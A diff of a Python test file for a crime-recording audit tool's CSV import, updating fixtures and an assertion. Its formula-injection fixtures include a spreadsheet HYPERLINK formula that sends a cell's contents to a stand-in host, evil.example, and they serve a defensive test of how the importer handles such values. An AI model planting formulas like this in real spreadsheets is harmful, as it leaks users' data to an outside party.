@@ -18,7 +18,8 @@ HEADER = ",".join(case_sheet.COLUMNS)
 GOOD = [
     "IMP-1,incident_log,01/03/2024 09:00,no,yes,no,,Violence with injury,CR1,Violence with injury,01/03/2024 10:00,,",
     "IMP-1,incident_log,01/03/2024 09:00,no,yes,no,,Rape,CR2,Other sexual offences,03/03/2024 12:00,,misclassified",
-    "IMP-2,safeguarding_referral,02/03/2024 14:30,yes,no,no,ref only,Stalking and harassment,,,,,not_recorded",
+    "IMP-2,safeguarding_referral,02/03/2024 14:30,yes,no,no,ref only,Stalking and harassment,,,,,not_recorded,no,"
+    "not_known",
 ]
 
 
@@ -60,7 +61,7 @@ def test_dry_run_then_confirmed_import(world, client_for):
     rape = AuditedCrime.objects.get(case__reference="IMP-1", expected_offence__name="Rape")
     assert sorted(rape.error_kinds) == ["misclassified", "recorded_late"]  # 51 hours: lateness derived
     case = AuditedCase.objects.get(reference="IMP-2")
-    assert (case.auditor, case.domestic_abuse, case.notes, case.moderation_state) == (
+    assert (case.auditor, case.crimes.get().domestic_abuse, case.notes, case.moderation_state) == (
         world.people.inspector, True, "ref only", "draft")
     assert AuditedCase.history.filter(reference="IMP-2", history_user=world.people.inspector).exists()
     assert RecordingError.history.filter(crime_id=rape.pk, history_user=world.people.inspector).count() == 2
@@ -182,9 +183,9 @@ FORMULA_LIKE = [
     ['=HYPERLINK("http://evil.example/?x="&A2,"Open")', "incident_log", "01/03/2024 09:00", "no", "no", "no",
      "+44 ref", "Violence with injury", "CR9", "Violence with injury", "01/03/2024 10:00", "", ""],
     ["=1+1", "incident_log", "01/03/2024 09:00", "no", "no", "no", "-see CR8", "Rape", "", "", "", "",
-     "not_recorded"],
+     "not_recorded", "no", "not_known"],
     ["'=2+2", "incident_log", "01/03/2024 09:00", "no", "no", "no", "@note", "Rape", "", "", "", "",
-     "not_recorded"],
+     "not_recorded", "no", "yes"],
 ]
 
 
